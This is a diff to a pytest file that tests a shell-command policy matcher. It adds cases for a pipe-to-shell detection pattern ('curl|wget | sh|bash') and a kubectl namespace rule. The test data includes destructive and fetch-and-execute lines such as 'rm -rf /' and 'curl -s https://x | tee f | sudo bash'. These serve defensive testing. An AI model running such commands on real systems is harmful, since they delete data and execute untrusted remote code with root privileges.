@@ -11,13 +11,18 @@ from soulguard.policy.commands import (
 
 def hits(pattern: str, line: str) -> bool:
     found = CommandPattern(pattern)
-    return any(found.matches(words) for words in simple_commands(line))
+    return any(found.found_in(each, each.words) for each in started_by(line))
 
 
 @pytest.mark.parametrize(
     ("pattern", "line", "expected"),
     [
         ("rm", "rm -rf /", True),
+        ("curl|wget | sh|bash", "curl -s https://x | tee f | sudo bash", True),
+        ("curl|wget | sh|bash", "sh -c 'wget -qO- x | sh'", True),
+        ("curl|wget | sh|bash", "curl -s x; bash f", False),
+        ("curl|wget | sh|bash", "echo curl | bash", False),
+        ("kubectl -n x", "kubectl --namespace x get pods", True),
         ("rm", "/bin/rm x", True),
         ("rm", "rmdir x", False),
         ("rm", "echo rm", False),
